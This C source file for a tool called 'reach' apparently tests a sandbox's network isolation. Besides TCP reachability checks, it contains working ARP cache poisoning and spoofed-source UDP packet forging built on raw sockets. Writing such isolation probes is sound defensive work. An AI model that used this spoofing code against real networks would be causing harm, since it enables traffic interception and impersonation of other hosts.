/* Attacks the capsule's network as a hostile program can. Run as a rank of an MPI job, or of none:
 * MPI is not used.
 *
 * usage: reach ADDRESS:PORT...           connects to each; "reach ADDRESS:PORT: connected" or what
 *                                        went wrong, a line each
 *        reach --poison VICTIM CLAIMED   needs CAP_NET_RAW, as a set-user-id tool of the node may
 *                                        give it: tells VICTIM by ARP, for a second, that CLAIMED's
 *                                        address is at our MAC; "reach: told"
 *        reach --forge VICTIM CLAIMED MAC
 *                                        the same right: sends UDP to VICTIM's port 9 that says it
 *                                        comes from CLAIMED, which has MAC, as IP and as frames;
 *                                        "reach: sent" */
#include <arpa/inet.h>
#include <fcntl.h>
#include <linux/if_ether.h>
#include <linux/if_packet.h>
#include <net/if.h>
#include <net/if_arp.h>
#include <netinet/ether.h>
#include <netinet/ip.h>
#include <netinet/udp.h>
#include <poll.h>
#include <sys/ioctl.h>
#include <sys/socket.h>

#include "common.h"

#define WAIT_MSEC 3000
#define REPEATS 20

struct arp_frame {
        struct ethhdr eth;
        struct arphdr arp;
        uint8_t sender_mac[6];
        uint32_t sender;
        uint8_t target_mac[6];
        uint32_t target;
} __attribute__((packed));

struct udp_packet {
        struct iphdr ip;
        struct udphdr udp;
        char data[4];
} __attribute__((packed));

static int connect_to(const struct sockaddr_in *to) {
        int fd = socket(AF_INET, SOCK_STREAM | SOCK_NONBLOCK, 0);
        struct pollfd p = { .fd = fd, .events = POLLOUT };
        int error = 0;
        socklen_t size = sizeof(error);

        if (connect(fd, (const struct sockaddr *) to, sizeof(*to)) < 0 && errno != EINPROGRESS)
                error = errno;
        else if (poll(&p, 1, WAIT_MSEC) <= 0)
                error = ETIMEDOUT;
        else
                (void) getsockopt(fd, SOL_SOCKET, SO_ERROR, &error, &size);
        (void) close(fd);
        return error;
}

static void try_one(const char *word) {
        struct sockaddr_in to = { .sin_family = AF_INET };
        char address[64];
        const char *colon = strchr(word, ':');
        int error;

        if (!colon)
                return;
        (void) snprintf(address, sizeof(address), "%.*s", (int) (colon - word), word);
        to.sin_port = htons((uint16_t) atoi(colon + 1));
        if (inet_pton(AF_INET, address, &to.sin_addr) != 1)
                return;
        error = connect_to(&to);
        printf("reach %s: %s\n", word, error ? strerror(error) : "connected");
}

static void our_mac(uint8_t *mac) {
        struct ifreq request = { 0 };
        int fd = socket(AF_INET, SOCK_DGRAM, 0);

        (void) strcpy(request.ifr_name, "eth0");
        if (ioctl(fd, SIOCGIFHWADDR, &request) == 0)
                memcpy(mac, request.ifr_hwaddr.sa_data, 6);
        (void) close(fd);
}

/* 0, or why not one frame was taken. */
static int send_frames(const void *frame, size_t bytes) {
        struct sockaddr_ll to = { .sll_family = AF_PACKET, .sll_ifindex = (int) if_nametoindex("eth0"), .sll_halen = 6 };
        int fd = socket(AF_PACKET, SOCK_RAW, 0);
        int error = EPERM;

        memset(to.sll_addr, 0xff, 6);
        for (int i = 0; fd >= 0 && i < REPEATS; i++) {
                if (sendto(fd, frame, bytes, 0, (const struct sockaddr *) &to, sizeof(to)) < 0)
                        error = errno;
                else
                        error = 0;
                pause_usec(50000);
        }
        return fd < 0 ? EPERM : error;
}

static int poison(uint32_t victim, uint32_t claimed) {
        struct arp_frame f = { .arp = { .ar_hrd = htons(ARPHRD_ETHER),
                                        .ar_pro = htons(ETH_P_IP),
                                        .ar_hln = 6,
                                        .ar_pln = 4,
                                        .ar_op = htons(ARPOP_REQUEST) },
                               .sender = claimed,
                               .target = victim };
        int error;

        memset(f.eth.h_dest, 0xff, 6);
        our_mac(f.sender_mac);
        memcpy(f.eth.h_source, f.sender_mac, 6);
        f.eth.h_proto = htons(ETH_P_ARP);
        error = send_frames(&f, sizeof(f));
        printf("reach: told (%s)\n", error ? strerror(error) : "taken");
        return 0;
}

static uint16_t sum16(const void *data, size_t bytes) {
        const uint8_t *p = data;
        uint32_t sum = 0;

        for (size_t i = 0; i + 1 < bytes; i += 2)
                sum += (uint32_t) (p[i] << 8 | p[i + 1]);
        while (sum >> 16)
                sum = (sum & 0xffff) + (sum >> 16);
        return htons((uint16_t) ~sum);
}

static int forge(uint32_t victim, uint32_t claimed, const uint8_t *mac) {
        struct {
                struct ethhdr eth;
                struct udp_packet packet;
        } __attribute__((packed)) frame = {
                .packet = { .ip = { .version = 4,
                                    .ihl = 5,
                                    .tot_len = htons(sizeof(struct udp_packet)),
                                    .ttl = 64,
                                    .protocol = IPPROTO_UDP,
                                    .saddr = claimed,
                                    .daddr = victim },
                            .udp = { .source = htons(9), .dest = htons(9), .len = htons(sizeof(struct udphdr) + 4) } },
        };
        struct sockaddr_in to = { .sin_family = AF_INET, .sin_addr.s_addr = victim };
        int fd = socket(AF_INET, SOCK_RAW, IPPROTO_RAW);
        int error;

        frame.packet.ip.check = sum16(&frame.packet.ip, sizeof(frame.packet.ip));
        for (int i = 0; fd >= 0 && i < REPEATS; i++)
                (void) sendto(fd, &frame.packet, sizeof(frame.packet), 0, (const struct sockaddr *) &to, sizeof(to));
        memset(frame.eth.h_dest, 0xff, 6);
        our_mac(frame.eth.h_source);
        frame.eth.h_proto = htons(ETH_P_IP);
        error = send_frames(&frame, sizeof(frame));
        /* The frame is sent again as if it came from the claimed capsule itself. */
        memcpy(frame.eth.h_source, mac, 6);
        (void) send_frames(&frame, sizeof(frame));
        printf("reach: sent (%s)\n", error ? strerror(error) : "taken");
        return 0;
}

int main(int argc, char **argv) {
        if (argc == 4 && strcmp(argv[1], "--poison") == 0)
                return poison(inet_addr(argv[2]), inet_addr(argv[3]));
        if (argc == 5 && strcmp(argv[1], "--forge") == 0 && ether_aton(argv[4]))
                return forge(inet_addr(argv[2]), inet_addr(argv[3]), ether_aton(argv[4])->ether_addr_octet);
        for (int i = 1; i < argc; i++)
                try_one(argv[i]);
        return 0;
}
